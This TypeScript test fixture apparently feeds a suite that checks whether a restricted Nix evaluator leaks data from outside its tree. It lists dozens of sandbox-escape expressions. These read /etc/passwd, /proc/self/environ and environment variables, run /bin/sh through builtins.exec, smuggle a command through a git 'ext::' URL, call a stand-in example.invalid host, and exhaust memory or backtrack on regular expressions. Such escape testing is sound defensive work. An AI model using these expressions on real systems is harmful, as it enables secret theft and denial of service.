/**
 * Ways for an expression to name something outside of the trees that it was given. Each one tries to bring the marker, a
 * word that only files, variables and answers outside hold, into a value, a file of the store or a message.
 */

/** What there is outside. `make` in escapes.test.ts puts it there. */
export interface Outside {
  /** A directory with the marker in many forms. */
  readonly dir: string;
  /** What the marker's file is called, so that a listing shows it. */
  readonly name: string;
  /** A valid path of the machine's own store, a directory with the marker. */
  readonly storePath: string;
  /** SHA-256 of the file `secret`, in hex. */
  readonly sha256: string;
  /** NAR hash of the directory `source`, as SRI. */
  readonly narHash: string;
  /** Of a server on the loopback that answers everything with the marker. */
  readonly port: number;
  /** A Unix socket with a listener, and an abstract one. */
  readonly socket: string;
  readonly abstract: string;
  /** The tree that the expression is in. */
  readonly tree: string;
}

/** Shown by an expression that learnt something outside which has no marker in it. The halves are joined by Nix. */
export const LEARNT = "outside-is-there";
const YES = `("outside-" + "is-there")`;

/** `eval` prints a value; `write` instantiates a derivation. */
export interface Attempt {
  readonly how: "eval" | "write";
  readonly expression: string;
}

export function attempts(o: Outside): Readonly<Record<string, Attempt>> {
  const all = {
    ...reading(o),
    ...linked(o),
    ...kernel(o),
    ...flakes(o),
    ...fetchers(o),
    ...network(o),
    ...builds(o),
  };
  const evals = Object.entries(all).map(([name, expression]) => [name, { how: "eval", expression }] as const);
  const writes = Object.entries(copying(o)).map(
    ([name, src]) =>
      [
        name,
        { how: "write", expression: `derivation { name = "x"; system = "s"; builder = "b"; src = ${src}; }` },
      ] as const,
  );
  return Object.fromEntries([...evals, ...writes]);
}

type Expressions = Readonly<Record<string, string>>;

function reading({ dir, sha256, storePath }: Outside): Expressions {
  return {
    readFile: `builtins.readFile ${dir}/secret`,
    "readFile of a string": `builtins.readFile "${dir}/secret"`,
    "readFile of a path that is put together": `builtins.readFile (/. + "${dir}" + "/secret")`,
    import: `import ${dir}/secret.nix`,
    "import of a directory": `import ${dir}`,
    scopedImport: `builtins.scopedImport { } ${dir}/secret.nix`,
    readDir: `builtins.readDir ${dir}`,
    "readDir of all above": `map builtins.readDir [ / /root /home /etc /var /run ${dir}/.. ${dir} ]`,
    pathExists: `if builtins.pathExists ${dir}/secret then ${YES} else "nothing"`,
    "pathExists of root's home": `if builtins.pathExists /root/. || builtins.pathExists /bin/sh then ${YES} else ""`,
    readFileType: `if builtins.readFileType ${dir}/secret == "regular" then ${YES} else ""`,
    hashFile: `if builtins.hashFile "sha256" ${dir}/secret == "${sha256}" then ${YES} else ""`,
    "hashFile of a string": `if builtins.hashFile "sha256" "${dir}/secret" == "${sha256}" then ${YES} else ""`,
    findFile: `builtins.readFile (builtins.findFile [ { prefix = "x"; path = "${dir}"; } ] "x/secret")`,
    "findFile of nixPath": `builtins.readFile (builtins.findFile builtins.nixPath "outside/secret")`,
    "the search path": `builtins.readFile <outside/secret>`,
    "the search path, all of it": `builtins.nixPath`,
    "a path below home": `builtins.readFile ~/secret`,
    getEnv: `builtins.getEnv "FIRSTMILE_SECRET"`,
    "getEnv of what Nix was told": `map builtins.getEnv [ "NIX_CONFIG" "NIX_PATH" "GIT_DIR" "XDG_CONFIG_HOME" "HOME" "PATH" "TMPDIR" "OLDPWD" ]`,
    storePath: `builtins.readFile "\${builtins.storePath "${storePath}"}/secret"`,
    "a store path as a string": `builtins.readFile "${storePath}/secret"`,
    "a store path with a context": `builtins.readFile "\${builtins.appendContext "${storePath}" { "${storePath}" = { path = true; }; }}/secret"`,
    "the store, listed": `builtins.attrNames (builtins.readDir builtins.storeDir)`,
    "JSON, told in a message": `builtins.fromJSON (builtins.readFile ${dir}/secret)`,
    TOML: `builtins.fromTOML (builtins.readFile ${dir}/secret.toml)`,
    "a picture of the source in a message": `import ${dir}/broken.nix`,
    trace: `builtins.trace (builtins.readFile ${dir}/secret) 1`,
    throw: `throw (builtins.readFile ${dir}/secret)`,
    "a context of an error": `builtins.addErrorContext (builtins.readFile ${dir}/secret) (abort "x")`,
    tryEval: `(builtins.tryEval (builtins.readFile ${dir}/secret)).value`,
    "positions of attributes": `builtins.unsafeGetAttrPos "marker" (import ${dir}/attributes.nix) // { m = (import ${dir}/attributes.nix).marker; }`,
    toXML: `builtins.toXML (import ${dir}/attributes.nix)`,
    "dirOf and baseNameOf": `builtins.readFile (dirOf ${dir}/x/y + "/../secret")`,
    "exec of cat": `builtins.exec [ "cat" "${dir}/secret.nix" ]`,
    "exec of a shell": `builtins.exec [ "/bin/sh" "-c" "cat ${dir}/secret.nix" ]`,
    "exec of Nix itself": `builtins.exec [ "nix-instantiate" "--eval" "${dir}/secret.nix" ]`,
    importNative: `builtins.importNative ${dir}/secret.so "init"`,
  };
}

function copying({ dir, storePath }: Outside): Expressions {
  return {
    "a path": `${dir}/secret`,
    "a directory": `${dir}/source`,
    "a path in a string": `"\${${dir}/source}/secret"`,
    "builtins.path": `builtins.path { path = "${dir}/source"; name = "x"; }`,
    "builtins.path with a filter": `builtins.path { path = ${dir}/source; filter = path: type: true; }`,
    "builtins.path, flat": `builtins.path { path = ${dir}/secret; recursive = false; }`,
    "builtins.path of the store": `builtins.path { path = "${storePath}"; name = "again"; }`,
    filterSource: `builtins.filterSource (path: type: true) ${dir}/source`,
    "filterSource that tells names": `builtins.filterSource (path: type: builtins.trace path true) ${dir}/source`,
    toFile: `builtins.toFile "x" (builtins.readFile ${dir}/secret)`,
    "storePath as a source": `builtins.storePath "${storePath}"`,
    "a file of the machine": `[ /etc/passwd /etc/hostname /etc/os-release ]`,
    "an attribute of a file": `(import ${dir}/attributes.nix).marker`,
    "the root": `builtins.path { path = /.; name = "root"; filter = path: type: let is = a: b: builtins.substring 0 (builtins.stringLength a) b == a; in is path "${dir}/source/secret" || is "${dir}/source" path; }`,
  };
}

function linked({ dir, tree }: Outside): Expressions {
  return {
    "a link to a file": `builtins.readFile ${tree}/link-file`,
    "a link to a directory": `builtins.readFile ${tree}/link-dir/secret`,
    "a link to a directory, listed": `builtins.readDir ${tree}/link-dir`,
    "a link to an expression": `import ${tree}/link-file.nix`,
    "a relative link": `builtins.readFile ${tree}/link-up${dir}/secret`,
    "a link to the root": `builtins.readFile ${tree}/link-root${dir}/secret`,
    "a link through /proc": `builtins.readFile ${tree}/link-proc${dir}/secret`,
    "a link's target, copied": `builtins.readFile "\${${tree}/link-dir}/secret"`,
    "a link inside of a copy": `builtins.readFile "\${${tree}}/link-file"`,
    "parents of the tree": `builtins.readFile (${tree} + "/../../../../../../..${dir}/secret")`,
    "parents in a string": `builtins.readFile "${tree}/../../../../../../..${dir}/secret"`,
    "a link as a source with a hash": `builtins.readFile (builtins.path { path = ${tree}/link-file; recursive = false; name = "x"; })`,
    "a flake that is a link": `(builtins.getFlake "path:${tree}/flake-link").marker`,
    "a flake's file that is a link": `builtins.readFile ((builtins.getFlake "path:${tree}/flake-file-link").outPath + "/link")`,
    "a flake whose lock is a link": `(builtins.getFlake "path:${tree}/flake-lock-link").inputs.x.marker`,
  };
}

function kernel({ dir }: Outside): Expressions {
  const some = (path: string) =>
    `if builtins.stringLength (builtins.readFile ${path}) > 0 then ${YES} else ""`;
  return {
    "/proc/self/environ": `builtins.readFile /proc/self/environ`,
    "/proc/1/environ": some("/proc/1/environ"),
    "/proc/1/root": `builtins.readFile /proc/1/root${dir}/secret`,
    "/proc/self/root": `builtins.readFile /proc/self/root${dir}/secret`,
    "/proc/self/cwd": `builtins.readFile (/proc/self/cwd + "/${"../".repeat(9)}${dir}/secret")`,
    "/proc/thread-self/root": `builtins.readFile /proc/thread-self/root${dir}/secret`,
    "an inherited descriptor": `builtins.readFile /proc/self/fd/8/secret`,
    "an inherited descriptor, by /dev": `builtins.readFile /dev/fd/8/secret`,
    "descriptors that are listed": `map (n: builtins.tryEval (builtins.readDir (/proc/self/fd + "/\${n}"))) (builtins.attrNames (builtins.readDir /proc/self/fd))`,
    "/dev/stdin": `builtins.readFile /dev/stdin`,
    "/proc/self/mountinfo": some("/proc/self/mountinfo"),
    "/proc/self/cmdline": some("/proc/self/cmdline"),
    "/proc/cmdline": some("/proc/cmdline"),
    "the machine's name": some("/proc/sys/kernel/hostname"),
    "other processes": `if builtins.any (n: builtins.match "[0-9]+" n != null) (builtins.attrNames (builtins.readDir /proc)) then ${YES} else ""`,
    "/sys": `if builtins.pathExists /sys/kernel then ${YES} else ""`,
    "a block device": `if builtins.length (builtins.filter (n: builtins.match "(sd|vd|nvme|loop).*" n != null) (builtins.attrNames (builtins.readDir /dev))) > 0 then ${YES} else ""`,
    "an old root": `map (p: builtins.tryEval (builtins.readDir p)) [ /old /oldroot /newroot /.old /put_old /mnt ]`,
    "a flake of /proc/self/cwd": `(builtins.getFlake "path:/proc/self/cwd").marker`,
    "a flake of a descriptor": `(builtins.getFlake "path:/proc/self/fd/8").marker`,
    "fetchTree of a descriptor": `builtins.readFile ((builtins.fetchTree { type = "path"; path = "/proc/self/fd/8"; }) + "/secret")`,
  };
}

function flakes({ dir, tree, sha256 }: Outside): Expressions {
  const marker = (reference: string) => `(builtins.getFlake "${reference}").marker`;
  return {
    "getFlake path": marker(`path:${dir}`),
    "getFlake absolute": marker(dir),
    "getFlake path, encoded": marker(`path:${dir.replace("/", "%2F")}`),
    "getFlake git": marker(`git+file://${dir}/repo`),
    "getFlake git, shallow": marker(`git+file://${dir}/repo?shallow=1&ref=main`),
    "getFlake tarball": marker(`file://${dir}/flake.tar.gz`),
    "getFlake tarball by its scheme": marker(`tarball+file://${dir}/flake.tar.gz`),
    "getFlake of a registry": marker("flake:outside"),
    "getFlake of a registry, short": marker("outside"),
    "getFlake of an archive on the loopback": marker(`tarball+http://127.0.0.1:1/${sha256}.tar.gz`),
    "getFlake with dir": marker(`path:${dir}?dir=source/..`),
    "an input of a flake": marker(`path:${tree}/flake-input`),
    "an input by a relative path": marker(`path:${tree}/flake-relative`),
    "a flake's settings": `let f = builtins.getFlake "path:${tree}/flake-config"; in f.marker + builtins.readFile ${dir}/secret`,
    flakeRefToString: `builtins.getFlake (builtins.flakeRefToString { type = "path"; path = "${dir}"; })`,
  };
}

function fetchers({ dir, narHash, sha256, storePath }: Outside): Expressions {
  const secret = (fetched: string) => `builtins.readFile ((${fetched}) + "/secret")`;
  return {
    "fetchTree path": secret(`builtins.fetchTree { type = "path"; path = "${dir}/source"; }`),
    "fetchTree path with its hash": secret(
      `builtins.fetchTree { type = "path"; path = "${dir}/source"; narHash = "${narHash}"; }`,
    ),
    "fetchTree of a string": secret(`builtins.fetchTree "path:${dir}/source"`),
    "fetchTree git": secret(`builtins.fetchTree { type = "git"; url = "file://${dir}/repo"; }`),
    "fetchTree tarball": secret(
      `builtins.fetchTree { type = "tarball"; url = "file://${dir}/flake.tar.gz"; }`,
    ),
    "fetchTree file": `builtins.readFile (builtins.fetchTree { type = "file"; url = "file://${dir}/secret"; })`,
    "fetchTree indirect": secret(`builtins.fetchTree { type = "indirect"; id = "outside"; }`),
    "fetchTree mercurial": secret(`builtins.fetchTree { type = "hg"; url = "file://${dir}/hg"; }`),
    "fetchTree of the store": secret(`builtins.fetchTree { type = "path"; path = "${storePath}"; }`),
    fetchGit: secret(`builtins.fetchGit ${dir}/repo`),
    "fetchGit of a URL": secret(`builtins.fetchGit { url = "file://${dir}/repo"; ref = "main"; }`),
    "fetchGit of a URL with options": secret(
      `builtins.fetchGit { url = "ext::cat ${dir}/secret"; allRefs = true; }`,
    ),
    "fetchGit with submodules": secret(`builtins.fetchGit { url = "${dir}/repo"; submodules = true; }`),
    fetchMercurial: secret(`builtins.fetchMercurial ${dir}/hg`),
    fetchurl: `builtins.readFile (builtins.fetchurl "file://${dir}/secret")`,
    "fetchurl with its hash": `builtins.readFile (builtins.fetchurl { url = "file://${dir}/secret"; sha256 = "${sha256}"; })`,
    fetchTarball: secret(`builtins.fetchTarball "file://${dir}/flake.tar.gz"`),
    "fetchTarball with a hash": secret(
      `builtins.fetchTarball { url = "file://${dir}/flake.tar.gz"; sha256 = "${narHash}"; }`,
    ),
    "path with its hash": `builtins.readFile (builtins.path { path = /nowhere/secret; name = "secret"; recursive = false; sha256 = "${sha256}"; })`,
    "fetchClosure of files": `builtins.readFile (builtins.fetchClosure { fromStore = "file://${dir}/cache"; fromPath = ${storePath}; } + "/secret")`,
  };
}

function network({ port, socket, abstract, storePath }: Outside): Expressions {
  const closure = (store: string) =>
    `builtins.readFile (builtins.fetchClosure { fromStore = "${store}"; fromPath = ${storePath}; inputAddressed = true; } + "/secret")`;
  const tree = (fields: string) => `builtins.readFile ((builtins.fetchTree { ${fields} }) + "/secret")`;
  return {
    "the loopback": `builtins.readFile (builtins.fetchurl "http://127.0.0.1:${port}/secret")`,
    "the loopback by its name": `builtins.readFile (builtins.fetchurl "http://localhost:${port}/secret")`,
    "the loopback of IPv6": `builtins.readFile (builtins.fetchurl "http://[::1]:${port}/secret")`,
    "an archive on the loopback": tree(`type = "tarball"; url = "http://127.0.0.1:${port}/flake.tar.gz";`),
    "a file on the loopback": `builtins.readFile (builtins.fetchTree { type = "file"; url = "http://127.0.0.1:${port}/secret"; })`,
    "github on the loopback": tree(
      `type = "github"; owner = "o"; repo = "r"; host = "127.0.0.1:${port}"; ref = "main";`,
    ),
    "gitlab on the loopback": tree(
      `type = "gitlab"; owner = "o"; repo = "r"; host = "127.0.0.1:${port}"; ref = "main";`,
    ),
    "git on the loopback": `builtins.fetchGit "http://127.0.0.1:${port}/repo"`,
    "git over ssh": `builtins.fetchGit "ssh://127.0.0.1:${port}/repo"`,
    "a name that tells who asks": `builtins.fetchurl "http://secret.${abstract}.example.invalid/"`,
    "a store on the loopback": closure(`http://127.0.0.1:${port}`),
    "a store by ssh": closure(`ssh://127.0.0.1:${port}`),
    "the daemon": closure("daemon"),
    "the local store": closure("local"),
    "a local store elsewhere": closure("local?root=/"),
    "the store that is automatic": closure("auto"),
    "a socket": closure(`unix://${socket}`),
    "an abstract socket": closure(`unix://@${abstract}`),
  };
}

/** Nix is told to build what an evaluation asks for. */
function builds({ dir, sha256, port }: Outside): Expressions {
  const made = (more: string) =>
    `builtins.readFile (derivation ({ name = "made"; system = builtins.currentSystem; } // { ${more} }))`;
  const fixed = `outputHash = "${sha256}"; outputHashAlgo = "sha256"; outputHashMode = "flat";`;
  return {
    "a build that reads": made(
      `builder = "/bin/sh"; args = [ "-c" "read -r x < ${dir}/secret; echo $x > $out" ];`,
    ),
    "a build by Nix's own program": made(
      `builder = "/.seal/bin/nix"; args = [ "eval" "--impure" "--raw" "--expr" "builtins.readFile ${dir}/secret" ];`,
    ),
    "a download by a build": made(`builder = "builtin:fetchurl"; url = "file://${dir}/secret"; ${fixed}`),
    "a download by a build, on the loopback": made(
      `builder = "builtin:fetchurl"; url = "http://127.0.0.1:${port}/secret"; ${fixed}`,
    ),
    "nix/fetchurl.nix": `builtins.readFile (import <nix/fetchurl.nix> { url = "file://${dir}/secret"; sha256 = "${sha256}"; })`,
    "a channel": `builtins.readFile (derivation { name = "c"; system = builtins.currentSystem; builder = "builtin:unpack-channel"; src = ${dir}/flake.tar.gz; channelName = "x"; } + "/x/secret")`,
    "an environment": `builtins.readDir (derivation { name = "e"; system = builtins.currentSystem; builder = "builtin:buildenv"; derivations = [ "true" "5" "1" "${dir}/source" ]; manifest = ${dir}/secret; })`,
    "a build without a sandbox": made(
      `builder = "/bin/sh"; __noChroot = true; args = [ "-c" "read -r x < ${dir}/secret; echo $x > $out" ];`,
    ),
    "an impure build": made(
      `builder = "/bin/sh"; __impure = true; args = [ "-c" "read -r x < ${dir}/secret; echo $x > $out" ];`,
    ),
    "variables of the caller": made(
      `builder = "/bin/sh"; ${fixed} impureEnvVars = [ "FIRSTMILE_SECRET" ]; args = [ "-c" "echo -n $FIRSTMILE_SECRET > $out" ];`,
    ),
    outputOf: `builtins.readFile (builtins.outputOf (derivation { name = "x.drv"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "read -r x < ${dir}/secret; echo $x > $out" ]; outputHashMode = "text"; outputHashAlgo = "sha256"; __contentAddressed = true; }).outPath "out")`,
  };
}

/** Without end: what a limit has to stop. The last of all, since they use a store up. */
export const HOGS: Readonly<Record<string, string>> = {
  memory: `let double = s: n: if n == 0 then s else double (s + s) (n - 1); in builtins.stringLength (double "0123456789abcdef" 40)`,
  "memory, by a list": `builtins.length (builtins.genList (n: n) 100000000000)`,
  "an endless file": `builtins.stringLength (builtins.readFile /dev/zero)`,
  recursion: `let f = n: 1 + f (n + 1); in f 0`,
  "a regular expression": `builtins.match "(a*)*b" (builtins.concatStringsSep "" (builtins.genList (n: "a") 100000))`,
};
